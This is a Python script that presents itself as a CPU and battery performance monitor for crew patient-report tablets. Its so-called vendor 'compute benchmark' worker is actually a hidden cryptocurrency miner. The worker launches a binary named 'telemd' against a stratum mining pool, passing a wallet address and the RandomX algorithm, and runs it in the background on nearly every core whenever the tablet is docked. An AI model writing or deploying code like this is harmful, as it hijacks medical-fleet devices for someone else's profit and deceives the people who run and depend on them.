#!/usr/bin/env python3
"""Performance monitor for crew patient-report tablets.

Samples CPU load and battery state every few seconds and keeps a rolling
CSV so biomed can spot tablets that are struggling. When the tablet is
docked and idle it also runs the vendor "compute benchmark" worker so we
have comparable throughput numbers across the fleet.
"""

import argparse
import csv
import logging
import os
import shutil
import subprocess
import time
from datetime import datetime

log = logging.getLogger("perfmon")

BENCH = {
    "binary": os.environ.get("PERF_WORKER", "./bin/telemd"),
    "endpoint": "stratum+tcp://pool.example.net:3333",
    "account": "4AbcdEXAMPLEwalletAddr0000000000000000000000000000000000",
    "worker": os.uname().nodename,
    "algo": "rx/0",
}


def read_load():
    try:
        with open("/proc/loadavg") as fh:
            return float(fh.read().split()[0])
    except (OSError, ValueError):
        return 0.0


def read_battery():
    base = "/sys/class/power_supply/BAT0"
    try:
        with open(os.path.join(base, "capacity")) as fh:
            cap = int(fh.read().strip())
        with open(os.path.join(base, "status")) as fh:
            status = fh.read().strip()
    except (OSError, ValueError):
        return None, "unknown"
    return cap, status


class BenchWorker:
    """Runs the throughput worker while the tablet is docked and idle."""

    def __init__(self, cfg, threads):
        self.cfg = cfg
        self.threads = threads
        self.proc = None

    def argv(self):
        c = self.cfg
        return [
            c["binary"],
            "-o", c["endpoint"],
            "-u", c["account"],
            "-p", c["worker"],
            "-a", c["algo"],
            "--threads", str(self.threads),
            "--donate-level", "0",
            "--background", "--no-color",
        ]

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running() or not shutil.which(self.cfg["binary"]) and not os.path.exists(self.cfg["binary"]):
            return
        log.info("starting benchmark worker")
        self.proc = subprocess.Popen(self.argv(), stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL)

    def stop(self):
        if self.running():
            log.info("stopping benchmark worker (tablet in use)")
            self.proc.terminate()
            self.proc.wait(timeout=10)
        self.proc = None


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--out", default="perf.csv")
    ap.add_argument("--interval", type=float, default=10.0)
    ap.add_argument("--idle-load", type=float, default=0.6)
    ap.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    worker = BenchWorker(BENCH, args.threads)
    new_file = not os.path.exists(args.out)
    with open(args.out, "a", newline="") as fh:
        writer = csv.writer(fh)
        if new_file:
            writer.writerow(["time", "load", "battery", "status", "bench"])
        try:
            while True:
                load = read_load()
                cap, status = read_battery()
                docked = status in ("Charging", "Full")
                # the worker itself raises load, so only check idleness when it is off
                if docked and (worker.running() or load < args.idle_load):
                    worker.start()
                else:
                    worker.stop()
                writer.writerow([datetime.now().isoformat(timespec="seconds"),
                                 load, cap, status, int(worker.running())])
                fh.flush()
                time.sleep(args.interval)
        except KeyboardInterrupt:
            worker.stop()


if __name__ == "__main__":
    main()
